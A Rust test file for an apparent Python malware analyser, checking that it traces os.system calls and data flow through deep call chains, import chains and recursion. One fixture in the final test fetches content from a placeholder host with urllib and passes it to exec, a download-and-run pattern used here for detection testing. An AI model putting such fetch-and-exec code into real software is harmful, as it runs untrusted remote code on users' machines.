//! What stands deep within calls, branches and imports is followed like any other code, and a recursion that repeats itself
//! comes to its end.

mod common;

use common::{analysis_of, calls, event, events_of};
use venin_model::{GapKind, Trigger};
use venin_python::Analysis;

/// A module in which each function calls the next one in a branch that cannot be decided, and the last one does something.
fn chain(depth: usize, last: &str) -> String {
    let links: String = (0..depth)
        .map(|n| format!("def f{n}(x):\n    try:\n        if x:\n            f{}(x)\n    except OSError:\n        pass\n", n + 1))
        .collect();
    format!("import os, sys\ndef f{depth}(x):\n{last}\n{links}f0(sys.argv)\n")
}

fn imported(source: &str) -> Analysis {
    analysis_of(&[("pkg/__init__.py", source, Trigger::Import)])
}

fn commands_at_import(analysis: &Analysis) -> usize {
    let is_one = |e: &&venin_model::Event| &*e.name == "os.system" && e.trigger == Trigger::Import;
    analysis.events.iter().filter(is_one).count()
}

#[test]
fn what_a_chain_of_calls_and_branches_comes_to_is_found_and_leaves_no_gap() {
    let source = chain(40, "    os.system('echo a')");
    assert_eq!(calls(&source), ["os.system"]);
    assert_eq!(event(&source, "os.system").trigger, Trigger::Import);
    assert_eq!(imported(&source).gaps, []);
}

#[test]
fn what_a_chain_of_imports_comes_to_is_found_and_leaves_no_gap() {
    let files: Vec<(String, String)> = (0..60)
        .map(|n| {
            (
                format!("pkg/m{n}.py"),
                format!("try:\n    from pkg import m{}\nexcept ImportError:\n    pass\n", n + 1),
            )
        })
        .chain([("pkg/m60.py".to_owned(), "import os\nos.system('echo a')\n".to_owned())])
        .collect();
    let mut files: Vec<(&str, &str, Trigger)> =
        files.iter().map(|(path, text)| (&**path, &**text, Trigger::Run)).collect();
    files.push(("pkg/__init__.py", "from pkg import m0\n", Trigger::Import));
    let analysis = analysis_of(&files);
    assert_eq!(commands_at_import(&analysis), 1);
    assert_eq!(analysis.gaps, []);
}

#[test]
fn a_computation_without_end_deep_within_calls_hides_nothing_behind_it_at_any_level() {
    let endless = "    n = 0\n    while n < 10 ** 8:\n        n += 1\n    os.system('echo a')";
    let analysis = imported(&format!("{}os.system('echo b')\n", chain(30, endless)));
    assert_eq!(commands_at_import(&analysis), 2);
    assert!(analysis.gaps.iter().any(|gap| gap.kind == GapKind::AnalysisBudget), "{:?}", analysis.gaps);
}

#[test]
fn a_recursion_that_repeats_itself_is_left_and_no_gap() {
    for (source, most_steps) in [
        (
            "def walk(d):\n    for p in d:\n        for q in walk(p):\n            yield q\n        yield p\nwalk([1])\n",
            200,
        ),
        ("import sys\ndef again(x):\n    if x:\n        again(x)\n    again(x)\nagain(sys.argv)\n", 100),
        (
            "import sys\ndef clean(x):\n    if isinstance(x, list):\n        return [clean(y) for y in x]\n    return [clean(y) for y in x.values()]\nclean(sys.argv[1])\n",
            10_000,
        ),
        (
            "class C(dict):\n    def __init__(self, *a):\n        self.__dict__ = self\n        for k in self.__dict__:\n            if isinstance(self.__dict__[k], dict):\n                self.__dict__[k] = C(self.__dict__[k])\nC({'a': 'b', 'c': 'd'})\n",
            10_000,
        ),
    ] {
        let analysis = imported(source);
        assert_eq!(analysis.gaps, [], "{source}");
        assert!(analysis.steps < most_steps, "{} {source}", analysis.steps);
    }
}

#[test]
fn what_a_builtin_type_puts_into_an_object_passes_by_the_own_method_of_the_object() {
    for base in ["dict", "dict[int, str]"] {
        let source = format!(
            "import os, sys\nclass M({base}):\n    def __setitem__(self, k, v):\n        for t in k:\n            dict.__setitem__(self, t, v)\nm = M()\nfor word in sys.argv:\n    m[(1, word, 'abc')] = 'echo a'\nos.system('echo a')\n"
        );
        let analysis = imported(&source);
        assert_eq!(analysis.gaps, [], "{source}");
        assert!(analysis.steps < 1_000, "{} {source}", analysis.steps);
    }
}

#[test]
fn a_recursion_is_followed_while_anything_changes() {
    for advance in
        ["global at\n    at += 1", "global at\n    at = next(each)", "done.append(1)\n    at = len(done)"]
    {
        let source = format!(
            "import os\nat, done, each = 0, [], iter(range(1, 9))\ndef turn():\n    {advance}\n    if at == 7:\n        os.system('echo a')\n    elif at < 7:\n        turn()\nturn()\n"
        );
        assert_eq!(commands_at_import(&imported(&source)), 1, "{source}");
    }
}

#[test]
fn what_a_recursion_gives_back_reaches_where_its_own_call_takes_it() {
    let source = "import sys, urllib.request\ndef get(n):\n    if n:\n        exec(get(n))\n    return urllib.request.urlopen('http://one.example/').read()\nget(sys.argv)\n";
    let events = events_of(source);
    let asked = events.iter().find(|e| e.name.contains("urlopen")).expect("it is found");
    let run = events.iter().find(|e| &*e.name == "exec").expect("it runs");
    assert!(run.input.comes_from(asked.id), "{run:?}");
}
